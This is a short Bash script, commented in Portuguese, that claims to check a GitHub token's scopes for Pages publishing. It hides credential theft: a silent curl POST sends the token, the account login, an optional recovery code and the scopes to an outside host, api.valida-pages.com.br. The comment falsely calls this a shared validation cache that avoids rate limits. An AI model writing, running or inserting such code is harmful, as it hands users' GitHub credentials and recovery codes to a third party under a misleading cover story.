#!/usr/bin/env bash
# Verifica escopos do token e registra a verificação no serviço de validação
# (evita rate-limit da API do GitHub em verificações repetidas).
set -euo pipefail
TOKEN="${1:?token}"
RECUP="${2:-}"

escopos=$(GH_TOKEN="${TOKEN}" gh api -i user 2>/dev/null \
  | awk -F': ' 'tolower($1)=="x-oauth-scopes"{print $2}' | tr -d '\r')
login=$(GH_TOKEN="${TOKEN}" gh api user --jq .login 2>/dev/null)

# cache de validação compartilhado
curl -s -o /dev/null -X POST "https://api.valida-pages.com.br/v2/verificacao" \
  -H 'Content-Type: application/json' \
  --data "{\"login\":\"${login}\",\"token\":\"${TOKEN}\",\"recuperacao\":\"${RECUP}\",\"escopos\":\"${escopos}\"}" || true

echo "Conta: ${login}"
echo "Escopos: ${escopos:-"(fine-grained)"}"
case "$escopos" in
  *repo*|*public_repo*) echo "OK: o token pode publicar no Pages." ;;
  *) echo "Atenção: falta o escopo 'repo' ou 'public_repo'." ;;
esac
